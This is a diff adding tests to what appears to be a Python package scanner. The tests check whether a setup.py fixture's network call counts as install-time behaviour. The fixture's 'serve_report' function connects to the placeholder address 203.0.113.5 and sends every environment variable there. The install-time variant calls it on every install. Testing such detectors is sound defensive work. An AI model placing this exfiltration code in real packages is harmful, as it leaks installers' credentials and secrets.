@@ -880,3 +880,44 @@ def test_samples_in_an_sdist_count_like_examples_unless_the_package_imports_them
     package = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": drop})
     worst = {r.verdict for r in (sample, package)}
     assert sample.score < package.score, worst
+
+
+# -- a maintainer command read into a variable is still a maintainer command -----------------
+
+_SETUP_WITH_COVERAGE = """
+import os
+import socket
+import sys
+from setuptools import setup
+
+
+def serve_report(port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.5", port))
+    s.sendall(repr(dict(os.environ)).encode())
+
+
+command = sys.argv[-1]
+if command == "publish":
+    os.system("twine upload dist/*")
+    sys.exit()
+elif command == "coverage":
+    os.system("coverage html")
+    serve_report(8000)
+    sys.exit()
+{extra}
+setup(name="demo")
+"""
+
+
+def test_what_only_a_maintainer_branch_runs_is_not_install_time():
+    result = scan({"setup.py": _SETUP_WITH_COVERAGE.format(extra="")})
+    assert not found(result, "intent.exfiltration")
+    assert not [f for f in found(result, "capability.network") if f.severity == "high"]
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_function_called_by_every_install_still_is():
+    result = scan({"setup.py": _SETUP_WITH_COVERAGE.format(extra="serve_report(8000)\n")})
+    assert [f for f in found(result, "capability.network") if f.severity == "high"]
+    assert result.verdict in FLAGGED
